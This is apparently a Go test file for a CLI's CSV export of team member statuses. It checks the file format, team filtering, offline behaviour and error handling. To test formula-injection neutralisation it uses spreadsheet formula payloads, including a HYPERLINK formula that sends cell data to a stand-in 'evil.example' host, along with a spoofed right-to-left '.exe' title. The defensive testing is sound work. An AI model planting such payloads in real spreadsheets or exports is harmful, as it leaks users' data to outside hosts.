package cli

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/shotdesk/shotdesk/internal/csvio"
	"github.com/shotdesk/shotdesk/internal/domain"
	"github.com/shotdesk/shotdesk/internal/store"
)

// readStatusCSV checks the byte-level contract (BOM, CRLF everywhere, exact
// header) and returns the data records.
func readStatusCSV(t *testing.T, path string) [][]string {
	t.Helper()
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(raw, []byte("\ufeff")) {
		t.Fatalf("%s does not start with a UTF-8 BOM: % x", path, raw[:min(len(raw), 8)])
	}
	body := raw[3:]
	if n, crlf := bytes.Count(body, []byte("\n")), bytes.Count(body, []byte("\r\n")); n != crlf || n == 0 {
		t.Fatalf("%s: %d LF of which %d in CRLF", path, n, crlf)
	}
	if bytes.Count(body, []byte("\r")) != bytes.Count(body, []byte("\r\n")) {
		t.Fatalf("%s has a lone CR", path)
	}
	const wantHeader = "Team Name,Email,Title,Status,Finished Date,Lifecycle,Favorite,Actioned,Actioned At,Retry Possible Until,Model ID\r\n"
	if !bytes.HasPrefix(body, []byte(wantHeader)) {
		t.Fatalf("header is %q", body[:min(len(body), len(wantHeader)+20)])
	}
	r := csv.NewReader(bytes.NewReader(body))
	r.FieldsPerRecord = len(csvio.StatusHeader)
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s is not valid CSV: %v", path, err)
	}
	return recs[1:]
}

var statusCSVDate = regexp.MustCompile(`^\d{4}-\d{2}-\d{2}$`)

// checkStatusRecords asserts the per-cell rules on every record.
func checkStatusRecords(t *testing.T, recs [][]string) {
	t.Helper()
	for i, rec := range recs {
		switch rec[3] {
		case "Finished", "Joined", "Invited":
		default:
			t.Fatalf("row %d (%s): status %q", i+1, rec[1], rec[3])
		}
		for _, col := range []int{4, 8, 9} {
			if rec[col] != "" && !statusCSVDate.MatchString(rec[col]) {
				t.Fatalf("row %d (%s): %s is %q, not YYYY-MM-DD", i+1, rec[1], csvio.StatusHeader[col], rec[col])
			}
		}
		if rec[3] == "Finished" && rec[4] == "" {
			t.Fatalf("row %d (%s): Finished without a date", i+1, rec[1])
		}
		for col, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", []rune(cell)[0]) {
				t.Fatalf("row %d (%s): %s cell %q would run as a formula", i+1, rec[1], csvio.StatusHeader[col], cell)
			}
		}
	}
}

func TestExportCSV(t *testing.T) {
	c := newCLIEnv(t, 120)
	out := t.TempDir()

	// Never synced and --offline: refuse, say why and what to do, and
	// write nothing. (Without --offline the export syncs first.)
	code, stdout, errOut := c.run("export-csv", "--offline", "--out", out)
	if code != ExitError || !strings.Contains(errOut, "never been synced") || !strings.Contains(errOut, "without --offline") {
		t.Fatalf("export before sync: %d %q %q", code, stdout, errOut)
	}
	if ents, _ := os.ReadDir(out); len(ents) != 0 {
		t.Fatalf("export before sync left %v", ents)
	}

	// People whose shoot title (their name) is a spreadsheet formula.
	formulas := map[string]string{
		"formula.eq@example.com":   `=HYPERLINK("http://evil.example/?q="&A2,"Click")`,
		"formula.plus@example.com": "+1+1",
		"formula.at@example.com":   "@SUM(A1:A9)",
		"formula.dash@example.com": "-2+3",
	}
	for email, name := range formulas {
		if code, _, errOut := c.run("invite", "--email", email); code != ExitOK {
			t.Fatalf("invite %s: %s", email, errOut)
		}
		if _, err := c.srv.AcceptInvite(email, name); err != nil {
			t.Fatal(err)
		}
		if _, err := c.srv.SubmitPhotos(email); err != nil { // starts a shoot titled with the name
			t.Fatal(err)
		}
	}
	if code, _, errOut := c.run("sync", "--no-photos"); code != ExitOK {
		t.Fatalf("sync: %s", errOut)
	}

	code, stdout, errOut = c.run("export-csv", "--out", filepath.Join(out, "all.csv"))
	if code != ExitOK {
		t.Fatalf("export-csv: %d %q", code, errOut)
	}
	all := readStatusCSV(t, filepath.Join(out, "all.csv"))
	if want := fmt.Sprintf("%s: %d rows\n", filepath.Join(out, "all.csv"), len(all)); stdout != want {
		t.Errorf("stdout %q, want %q", stdout, want)
	}
	if !strings.Contains(errOut, "offline copy from") {
		t.Errorf("stderr does not give the data age: %q", errOut)
	}
	checkStatusRecords(t, all)

	// One row per person the members list shows (revoked invites excluded),
	// with the same status and title.
	code, js, _ := c.run("members", "--json")
	var members []memberJSON
	if code != ExitOK || json.Unmarshal([]byte(js), &members) != nil {
		t.Fatalf("members --json: %d", code)
	}
	byEmail := map[string]memberJSON{}
	for _, m := range members {
		byEmail[m.Email] = m
	}
	if len(all) != len(members) || len(members) < 100 {
		t.Fatalf("%d rows for %d people", len(all), len(members))
	}
	seen := map[string]bool{}
	statuses := map[string]int{}
	for _, rec := range all {
		m, ok := byEmail[rec[1]]
		if !ok || seen[rec[1]] {
			t.Fatalf("row for %q: known %v, repeated %v", rec[1], ok, seen[rec[1]])
		}
		seen[rec[1]] = true
		statuses[rec[3]]++
		if rec[0] != m.Team || rec[3] != m.CSVStatus || csvio.Unneutralize(rec[2]) != strings.ReplaceAll(m.Title, "\r\n", "\n") || rec[10] != m.ModelID {
			t.Fatalf("row %q does not match the member %+v", rec, m)
		}
	}
	code, js, _ = c.run("members", "--status", "revoked", "--json")
	var revoked []memberJSON
	if code != ExitOK || json.Unmarshal([]byte(js), &revoked) != nil || len(revoked) == 0 {
		t.Fatalf("the sandbox should have revoked invites: %d %s", code, js)
	}
	for _, m := range revoked {
		if seen[m.Email] {
			t.Fatalf("revoked invite %s exported", m.Email)
		}
	}
	if statuses["Finished"] == 0 || statuses["Joined"] == 0 || statuses["Invited"] == 0 {
		t.Fatalf("statuses in the export: %v", statuses)
	}
	for _, rec := range all {
		if name, ok := formulas[rec[1]]; ok {
			if rec[2] != "'"+name || rec[3] != "Joined" {
				t.Errorf("formula title of %s exported as %q (%s)", rec[1], rec[2], rec[3])
			}
			delete(formulas, rec[1])
		}
	}
	if len(formulas) != 0 {
		t.Fatalf("formula people missing from the export: %v", formulas)
	}
	// The sandbox's path-hostile titles come through intact (CSV quoting
	// is encoding/csv's job; only line breaks are normalised).
	for _, want := range []string{`Ana "AJ" Jones: CEO/Founder`, "Tab\tand\nnewline", "Eve \u202Egpj.exe"} {
		found := false
		for _, rec := range all {
			found = found || rec[2] == want
		}
		if !found {
			t.Errorf("title %q not in the export", want)
		}
	}

	// --team: only that team's people, and all of them.
	team := ""
	for _, m := range members {
		if m.Team != "" {
			team = m.Team
			break
		}
	}
	code, _, errOut = c.run("export-csv", "--team", strings.ToUpper(team), "--out", filepath.Join(out, "team.csv"))
	if code != ExitOK {
		t.Fatalf("export-csv --team: %s", errOut)
	}
	teamRows := readStatusCSV(t, filepath.Join(out, "team.csv"))
	want := 0
	for _, m := range members {
		if m.Team == team {
			want++
		}
	}
	if len(teamRows) != want || want == 0 || want == len(all) {
		t.Fatalf("--team %q: %d rows, want %d of %d", team, len(teamRows), want, len(all))
	}
	for _, rec := range teamRows {
		if rec[0] != team {
			t.Fatalf("--team %q exported %s of team %q", team, rec[1], rec[0])
		}
	}

	// Offline: the API is unreachable and the export does not care. --out
	// DIR gets the default name; an existing file is replaced atomically.
	c.vars["SHOTDESK_API_URL"] = "http://127.0.0.1:1/api/v2"
	defName := filepath.Join(out, csvio.DefaultStatusFileName(time.Now()))
	if err := os.WriteFile(defName, []byte("old"), 0o600); err != nil {
		t.Fatal(err)
	}
	code, stdout, errOut = c.run("export-csv", "--out", out)
	if code != ExitOK || !strings.HasPrefix(stdout, defName+": ") || !strings.Contains(errOut, "replaced") {
		t.Fatalf("offline export to a folder: %d %q %q", code, stdout, errOut)
	}
	if got := readStatusCSV(t, defName); len(got) != len(all) {
		t.Fatalf("offline export has %d rows, want %d", len(got), len(all))
	}
	if ents, _ := os.ReadDir(out); len(ents) != 3 {
		t.Fatalf("temp files left behind: %v", ents)
	}

	// No --out: the current folder.
	cwd := t.TempDir()
	t.Chdir(cwd)
	if code, stdout, errOut := c.run("export-csv"); code != ExitOK || !strings.Contains(stdout, "team-status-") {
		t.Fatalf("export-csv without --out: %d %q %q", code, stdout, errOut)
	}
	if ents, _ := os.ReadDir(cwd); len(ents) != 1 || !regexp.MustCompile(`^team-status-\d{4}-\d{2}-\d{2}\.csv$`).MatchString(ents[0].Name()) {
		t.Fatalf("default output in the current folder: %v", ents)
	}

	// Mistakes: clear errors, right exit codes.
	if code, _, errOut := c.run("export-csv", "--team", "No Such Team"); code != ExitUsage || !strings.Contains(errOut, "Teams: ") {
		t.Errorf("unknown team: %d %q", code, errOut)
	}
	if code, _, errOut := c.run("export-csv", "--out", filepath.Join(out, "missing", "x.csv")); code != ExitError || !strings.Contains(errOut, "does not exist") {
		t.Errorf("missing folder: %d %q", code, errOut)
	}
	// A device at --out is refused and stays a device (it used to be
	// replaced by a file of staff emails).
	if code, _, errOut := c.run("export-csv", "--out", os.DevNull); code != ExitError || !strings.Contains(errOut, "not a file") {
		t.Errorf("--out %s: %d %q", os.DevNull, code, errOut)
	}
	if fi, err := os.Lstat(os.DevNull); err != nil || fi.Mode()&os.ModeDevice == 0 {
		t.Fatalf("%s is no longer a device: %v %v", os.DevNull, fi, err)
	}
	if code, _, _ := c.run("export-csv", "--bogus"); code != ExitUsage {
		t.Errorf("unknown flag: %d", code)
	}
	if code, _, _ := c.run("export-csv", "extra"); code != ExitUsage {
		t.Errorf("stray argument: %d", code)
	}
}

// statusSynthSnapshot is an organization of n people for the export benchmark:
// 90 % members with one shoot each (statuses cycling, half the finished
// ones with a favorite, a few formula titles), 10 % pending invites, 8 teams.
func statusSynthSnapshot(n int, takenAt time.Time) store.Snapshot {
	snap := store.Snapshot{
		Org:       domain.Organization{UID: "org_bench", Name: "Bench Inc"},
		Favorites: map[string]string{},
		TakenAt:   takenAt,
	}
	for i := range 8 {
		snap.Teams = append(snap.Teams, domain.Team{ID: fmt.Sprintf("team_%d", i), Name: fmt.Sprintf("Team %d", i)})
	}
	statuses := []domain.ModelStatus{domain.ModelActive, domain.ModelOnboarding, domain.ModelActive,
		domain.ModelGeneratingHeadshots, domain.ModelActive, domain.ModelWaiting, domain.ModelDeleted}
	t0 := takenAt.Add(-90 * 24 * time.Hour)
	for i := range n {
		email := fmt.Sprintf("person%06d@bench.example", i)
		team := snap.Teams[i%len(snap.Teams)]
		at := t0.Add(time.Duration(i) * time.Second)
		if i%10 == 9 {
			snap.Invites = append(snap.Invites, domain.Invite{Email: email, Status: domain.InvitePending, TeamID: team.ID, TeamName: team.Name, CreatedAt: at})
			continue
		}
		mid := fmt.Sprintf("mod_%06d", i)
		snap.Invites = append(snap.Invites, domain.Invite{Email: email, Status: domain.InviteCompleted, ModelID: mid, TeamID: team.ID, TeamName: team.Name, CreatedAt: at})
		snap.Members = append(snap.Members, domain.Member{ID: fmt.Sprintf("mem_%06d", i), Email: email, Name: fmt.Sprintf("Person %d", i),
			Status: domain.MemberFinished, TeamID: team.ID, TeamName: team.Name, JoinedAt: at.Add(time.Minute)})
		title := fmt.Sprintf("Person %d", i)
		if i%1000 == 0 {
			title = "=HYPERLINK(\"x\")"
		}
		st := statuses[i%len(statuses)]
		m := domain.Model{ID: mid, UID: "u" + mid, Email: email, Title: title, Status: st, TeamID: team.ID, TeamName: team.Name, CreatedAt: at.Add(time.Hour)}
		if st == domain.ModelActive || st == domain.ModelDeleted {
			m.FinishedAt = at.Add(3 * time.Hour)
		}
		snap.Models = append(snap.Models, m)
		if st == domain.ModelActive && i%2 == 0 {
			pid := fmt.Sprintf("ph_%06d", i)
			snap.Photos = append(snap.Photos, store.PhotoRecord{Photo: domain.Photo{ID: pid, ModelID: mid, Status: domain.PhotoActive, CreatedAt: m.FinishedAt}})
			snap.Favorites[mid] = pid
		}
	}
	return snap
}

func openStatusSynthStore(tb testing.TB, n int) *store.Store {
	tb.Helper()
	st, err := store.Open(filepath.Join(tb.TempDir(), "cache.db"))
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(func() { st.Close() })
	if _, err := st.ApplySnapshot(context.Background(), statusSynthSnapshot(n, time.Now().Add(-time.Hour))); err != nil {
		tb.Fatal(err)
	}
	return st
}

// The export streams every person exactly once, in the store's order, and
// for a team only that team.
func TestStatusRowsOrderAndTeam(t *testing.T) {
	st := openStatusSynthStore(t, 203)
	ctx := context.Background()
	whole, err := st.People(ctx, store.PeopleQuery{})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for row, err := range csvio.PeopleRows(ctx, st, "") {
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, row.Email)
	}
	if len(got) != len(whole.Items) {
		t.Fatalf("%d rows, want %d", len(got), len(whole.Items))
	}
	for i, p := range whole.Items {
		if got[i] != p.Email {
			t.Fatalf("row %d is %s, want %s", i, got[i], p.Email)
		}
	}
	n := 0
	for row, err := range csvio.PeopleRows(ctx, st, "team_3") {
		if err != nil || row.TeamName != "Team 3" {
			t.Fatalf("team row %+v %v", row, err)
		}
		n++
	}
	if n == 0 || n >= len(whole.Items)/4 {
		t.Fatalf("team_3 has %d of %d people", n, len(whole.Items))
	}

	// The mapping itself.
	p, err := st.Person(ctx, "person000000@bench.example")
	if err != nil {
		t.Fatal(err)
	}
	row := csvio.StatusRowOf(&p)
	if row.Title != "=HYPERLINK(\"x\")" || row.TeamName != "Team 0" || row.ModelID != "mod_000000" || !row.HasFavorite ||
		row.State.Lifecycle != domain.LifecycleFinished || row.FinishedAt.IsZero() || row.ModelStatus != domain.ModelActive || row.RetriesUsed != 0 {
		t.Fatalf("StatusRowOf(%+v) = %+v", p, row)
	}
}

// A sync that commits in the middle of an export changes nothing in it: the
// file is the cache as it was when the export began, every person once,
// and the next export sees the sync.
func TestStatusRowsSyncDuringExport(t *testing.T) {
	st := openStatusSynthStore(t, 50)
	ctx := context.Background()
	before := map[string]string{}
	for row, err := range csvio.PeopleRows(ctx, st, "") {
		if err != nil {
			t.Fatal(err)
		}
		before[row.Email] = row.Title
	}
	changed := statusSynthSnapshot(50, time.Now())
	for i := range changed.Models {
		changed.Models[i].Title = "renamed"
	}
	var rows []csvio.StatusRow
	for row, err := range csvio.PeopleRows(ctx, st, "") {
		if err != nil {
			t.Fatal(err)
		}
		rows = append(rows, row)
		if len(rows) == 5 { // the sync commits while the export reads
			if _, err := st.ApplySnapshot(ctx, changed); err != nil {
				t.Fatal(err)
			}
		}
	}
	if len(rows) != len(before) {
		t.Fatalf("%d rows during a sync, want the %d from before it", len(rows), len(before))
	}
	seen := map[string]bool{}
	for _, r := range rows {
		if seen[r.Email] || before[r.Email] != r.Title {
			t.Fatalf("row %+v: repeated, or not as before the sync (%q)", r, before[r.Email])
		}
		seen[r.Email] = true
	}
	renamed := 0
	for row, err := range csvio.PeopleRows(ctx, st, "") {
		if err != nil {
			t.Fatal(err)
		}
		if row.Title == "renamed" {
			renamed++
		}
	}
	if renamed == 0 {
		t.Fatal("the export after the sync does not show it")
	}
}

// BenchmarkStatusCSV100k writes the status CSV of 100,000 people from the
// store: one streamed query plus csvio's encoding, to nowhere and to a file.
// make bench's csv_export_100k adds the command line around it.
func BenchmarkStatusCSV100k(b *testing.B) {
	const n = 100_000
	st := openStatusSynthStore(b, n)
	ctx := context.Background()
	b.Run("discard", func(b *testing.B) {
		for b.Loop() {
			rows, err := csvio.WriteStatus(io.Discard, csvio.PeopleRows(ctx, st, ""), csvio.ExportOptions{})
			if err != nil || rows != n {
				b.Fatalf("%d rows, %v", rows, err)
			}
		}
		b.ReportMetric(float64(b.Elapsed().Milliseconds())/float64(b.N), "ms/export")
	})
	b.Run("file", func(b *testing.B) {
		path := filepath.Join(b.TempDir(), "status.csv")
		for b.Loop() {
			rows, err := csvio.ExportStatusFile(path, csvio.PeopleRows(ctx, st, ""), csvio.ExportOptions{})
			if err != nil || rows != n {
				b.Fatalf("%d rows, %v", rows, err)
			}
		}
		b.ReportMetric(float64(b.Elapsed().Milliseconds())/float64(b.N), "ms/export")
	})
}
